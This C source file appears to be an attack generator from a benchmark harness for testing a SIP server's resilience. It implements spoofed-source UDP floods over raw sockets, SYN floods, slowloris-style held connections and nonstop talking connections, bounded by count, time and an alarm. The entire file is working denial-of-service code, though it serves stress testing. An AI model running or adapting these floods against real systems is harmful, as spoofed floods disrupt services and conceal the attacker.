// The attacker: junk datagrams from invented sources at a steady rate (mode=sip, mode=media), half-open TCP connections
// (mode=syn: handshakes that are never finished, mode=connect: connections that say nothing, half a message or nonsense),
// connections that never stop talking (mode=talk).
// Prints what it sent. Everything is bounded by count= and seconds=.
#define _GNU_SOURCE
#include "../../../bench/load/common.h"
#include "junk_text.h"
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <unistd.h>

#define OVERSIZE_EVERY 128
#define MAX_CONNECTIONS 16384
#define MESSAGES_AT_ONCE 20

struct attack {
  struct in_addr source_net, target, own, known;
  int kind, source_bits, known_every, low_port, high_port, source_port;
  const char *proxy, *domain;
  long long count, rate, seconds;
};

static long sent, errors;
static volatile sig_atomic_t stopped;

static void stop(int signal) { stopped = signal; }

static struct in_addr random_source(const struct attack *attack) {
  uint32_t mask = attack->source_bits >= 32 ? 0 : 0xffffffffu >> attack->source_bits;
  uint32_t net = ntohl(attack->source_net.s_addr) & ~mask;
  return (struct in_addr){htonl(net | (junk_random() & mask))};
}

static int random_port(const struct attack *attack) {
  return attack->low_port + junk_random() % (attack->high_port - attack->low_port + 1);
}

// The kernel fills in the IP header's length and checksum (raw(7)); a UDP checksum of 0 means none.
static void send_raw(int raw, struct in_addr source, int source_port, struct sockaddr_in target, const struct junk *junk) {
  static char packet[sizeof(struct iphdr) + sizeof(struct udphdr) + JUNK_BYTES];
  struct iphdr *ip = (struct iphdr *)packet;
  struct udphdr *udp = (struct udphdr *)(ip + 1);
  *ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .saddr = source.s_addr,
    .daddr = target.sin_addr.s_addr};
  *udp = (struct udphdr){.source = htons(source_port), .dest = target.sin_port, .len = htons(sizeof *udp + junk->length)};
  memcpy(udp + 1, junk->data, junk->length);
  size_t length = sizeof *ip + sizeof *udp + junk->length;
  if (sendto(raw, packet, length, 0, (struct sockaddr *)&target, sizeof target) < 0) errors++;
  else sent++;
}

static int open_own_socket(const struct attack *attack) {
  struct sockaddr_in local = {.sin_family = AF_INET, .sin_addr = attack->own};
  int handle = socket(AF_INET, SOCK_DGRAM, 0);
  if (handle < 0 || bind(handle, (struct sockaddr *)&local, sizeof local) != 0) fail("bind", "the attacker's own address");
  return handle;
}

static void send_one(const struct attack *attack, int raw, int own, long long index, int media) {
  static struct junk junk;
  char host[INET_ADDRSTRLEN];
  struct sockaddr_in target = {.sin_family = AF_INET, .sin_addr = attack->target, .sin_port = htons(random_port(attack))};
  struct in_addr source = random_source(attack);
  int source_port = attack->source_port ? attack->source_port : 1024 + (int)(junk_random() % 60000);
  if (attack->known_every && index % attack->known_every == 0) source = attack->known, source_port = 5060;
  inet_ntop(AF_INET, &source, host, sizeof host);
  struct junk_place place = {.source_host = host, .proxy = attack->proxy, .domain = attack->domain, .source_port = source_port};
  if (media) make_media_junk(&junk);
  else if (attack->kind == JUNK_KINDS && index % OVERSIZE_EVERY == 0) make_junk(&junk, JUNK_OVERSIZE, &place);
  else if (attack->kind == JUNK_KINDS) make_junk(&junk, junk_random() % JUNK_OVERSIZE, &place);
  else make_junk(&junk, attack->kind, &place);
  if (junk.length <= ONE_PACKET_BYTES) return send_raw(raw, source, source_port, target, &junk);
  // Longer than a frame: only an ordinary socket has it cut into fragments.
  if (sendto(own, junk.data, junk.length, 0, (struct sockaddr *)&target, sizeof target) < 0) errors++;
  else sent++;
}

static void pace(int64_t start, long long index, long long rate) {
  int64_t due = start + index * NS_PER_S / rate, left = due - now_ns();
  if (left > 0) usleep(left / 1000);
}

static void send_datagrams(const struct attack *attack, int media) {
  int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), own = open_own_socket(attack);
  if (raw < 0) fail("open", "a raw socket");
  int64_t start = now_ns();
  for (long long index = 0; index < attack->count && !stopped; index++) {
    pace(start, index, attack->rate);
    send_one(attack, raw, own, index, media);
  }
  double seconds = (now_ns() - start) / 1e9;
  printf("sent=%ld errors=%ld seconds=%.2f rate=%.0f\n", sent, errors, seconds, sent / seconds);
}

static uint16_t tcp_checksum(const struct iphdr *ip, const struct tcphdr *tcp) {
  const uint16_t *words[2] = {(const uint16_t *)&ip->saddr, (const uint16_t *)tcp};
  uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof *tcp);
  for (int i = 0; i < 4; i++) sum += words[0][i];
  for (size_t i = 0; i < sizeof *tcp / 2; i++) sum += words[1][i];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum;
}

static void send_handshakes(const struct attack *attack) {
  int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  struct sockaddr_in target = {.sin_family = AF_INET, .sin_addr = attack->target, .sin_port = htons(attack->low_port)};
  if (raw < 0) fail("open", "a raw socket");
  int64_t start = now_ns();
  for (long long index = 0; index < attack->count && !stopped; index++) {
    pace(start, index, attack->rate);
    struct { struct iphdr ip; struct tcphdr tcp; } packet = {
      .ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .saddr = random_source(attack).s_addr,
        .daddr = attack->target.s_addr},
      .tcp = {.source = htons(1024 + junk_random() % 60000), .dest = target.sin_port, .seq = junk_random(), .doff = 5,
        .syn = 1, .window = htons(65535)}};
    packet.tcp.check = tcp_checksum(&packet.ip, &packet.tcp);
    if (sendto(raw, &packet, sizeof packet, 0, (struct sockaddr *)&target, sizeof target) < 0) errors++;
    else sent++;
  }
  printf("sent=%ld errors=%ld\n", sent, errors);
}

static const char *const openings[] = {"", "INVITE sip:a@b SIP/2.0\r\nVia: SIP/2.0/TCP 198.51.100.1", "GET / HTTP/1.1\r\n\r\n"};

static char opened[MAX_CONNECTIONS];

static int open_connection(const struct attack *attack, int epoll, int index) {
  struct sockaddr_in local = {.sin_family = AF_INET, .sin_addr = random_source(attack)};
  struct sockaddr_in target = {.sin_family = AF_INET, .sin_addr = attack->target, .sin_port = htons(attack->low_port)};
  int handle = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  struct epoll_event event = {.events = EPOLLOUT | EPOLLET, .data.u64 = (uint64_t)index << 32 | (uint32_t)handle};
  if (handle < 0) fail("open", "a TCP socket");
  if (bind(handle, (struct sockaddr *)&local, sizeof local) != 0) fail("bind", "a TCP source");
  if (connect(handle, (struct sockaddr *)&target, sizeof target) != 0 && errno != EINPROGRESS) {
    errors++;
    close(handle);
    return -1;
  }
  if (epoll_ctl(epoll, EPOLL_CTL_ADD, handle, &event) != 0) fail("watch", "a TCP socket");
  return handle;
}

static void take_connections(int epoll, int64_t until_ns, long *connected) {
  struct epoll_event events[64];
  int count = wait_until(epoll, until_ns, events, 64);
  for (int i = 0; i < count; i++) {
    int handle = (int)(uint32_t)events[i].data.u64;
    long index = events[i].data.u64 >> 32;
    const char *opening = openings[index % 3];
    if (!(events[i].events & EPOLLOUT) || events[i].events & EPOLLERR || opened[index]) continue;
    opened[index] = 1;
    ++*connected;
    if (*opening && send(handle, opening, strlen(opening), MSG_NOSIGNAL) < 0) errors++;
  }
}

static void hold_connections(const struct attack *attack) {
  int epoll = epoll_create1(EPOLL_CLOEXEC);
  long connected = 0;
  struct rlimit files;
  getrlimit(RLIMIT_NOFILE, &files);
  files.rlim_cur = files.rlim_max;
  setrlimit(RLIMIT_NOFILE, &files);
  if (attack->count > MAX_CONNECTIONS) fail("hold more connections than", "16384");
  int64_t start = now_ns();
  for (long long index = 0; index < attack->count && !stopped;) {
    int64_t due = start + index * NS_PER_S / attack->rate;
    take_connections(epoll, due, &connected);
    if (due > now_ns()) continue;
    if (open_connection(attack, epoll, index) >= 0) sent++;
    index++;
  }
  for (int64_t end = start + attack->seconds * NS_PER_S; now_ns() < end && !stopped;) take_connections(epoll, now_ns() + NS_PER_S / 10, &connected);
  printf("sent=%ld connected=%ld errors=%ld\n", sent, connected, errors);
}

// Every connection says requests as fast as they are taken; what comes back is read and thrown away.
static void talk(const struct attack *attack) {
  static struct junk junk;
  static char sink[65536];
  int epoll = epoll_create1(EPOLL_CLOEXEC), handles[MAX_CONNECTIONS], rest[MAX_CONNECTIONS] = {0};
  char host[INET_ADDRSTRLEN];
  inet_ntop(AF_INET, &attack->source_net, host, sizeof host);
  struct junk_place place = {.source_host = host, .proxy = attack->proxy, .domain = attack->domain, .source_port = 5060};
  make_junk(&junk, JUNK_OPTIONS, &place);
  if (attack->count > MAX_CONNECTIONS) fail("hold more connections than", "16384");
  for (int i = 0; i < attack->count; i++) handles[i] = open_connection(attack, epoll, i);
  for (int64_t end = now_ns() + attack->seconds * NS_PER_S; now_ns() < end && !stopped;) {
    int taken = 0;
    for (int i = 0; i < attack->count; i++) {
      while (recv(handles[i], sink, sizeof sink, MSG_DONTWAIT) > 0) continue;
      for (int n = 0; n < MESSAGES_AT_ONCE; n++) {
        ssize_t length = send(handles[i], junk.data + rest[i], junk.length - rest[i], MSG_NOSIGNAL);
        if (length <= 0) break;
        taken = 1;
        rest[i] = (rest[i] + length) % junk.length;
        sent += rest[i] == 0;
      }
    }
    if (!taken) usleep(1000);
  }
  printf("sent=%ld errors=%ld rate=%.0f\n", sent, errors, (double)sent / attack->seconds);
}

static struct in_addr address_argument(int count, char **values, const char *name, const char *fallback) {
  return address_of(argument(count, values, name, fallback), 0).sin_addr;
}

int main(int count, char **values) {
  const char *mode = argument(count, values, "mode", NULL);
  struct attack attack = {
    .kind = number(count, values, "kind", JUNK_KINDS),
    .source_net = address_argument(count, values, "source", NULL),
    .source_bits = number(count, values, "bits", 16),
    .source_port = number(count, values, "source_port", 0),
    .target = address_argument(count, values, "target", NULL),
    .own = address_argument(count, values, "own", "0.0.0.0"),
    .known = address_argument(count, values, "known", "0.0.0.0"),
    .known_every = number(count, values, "known_every", 0),
    .low_port = number(count, values, "low", 5060),
    .high_port = number(count, values, "high", number(count, values, "low", 5060)),
    .proxy = argument(count, values, "target", NULL),
    .domain = argument(count, values, "domain", argument(count, values, "target", NULL)),
    .count = number(count, values, "count", 1),
    .rate = number(count, values, "rate", 1000),
    .seconds = number(count, values, "seconds", 5),
  };
  if (attack.rate < 1 || attack.high_port < attack.low_port) fail("use arguments", mode);
  signal(SIGTERM, stop);
  prctl(PR_SET_TIMERSLACK, 1000);
  // An attack ends, whatever becomes of its target.
  alarm(attack.count / attack.rate + attack.seconds + 30);
  junk_seed(number(count, values, "seed", 1));
  enter_namespace(argument(count, values, "namespace", NULL));
  if (strcmp(mode, "syn") == 0) send_handshakes(&attack);
  else if (strcmp(mode, "connect") == 0) hold_connections(&attack);
  else if (strcmp(mode, "talk") == 0) talk(&attack);
  else send_datagrams(&attack, strcmp(mode, "media") == 0);
  return 0;
}
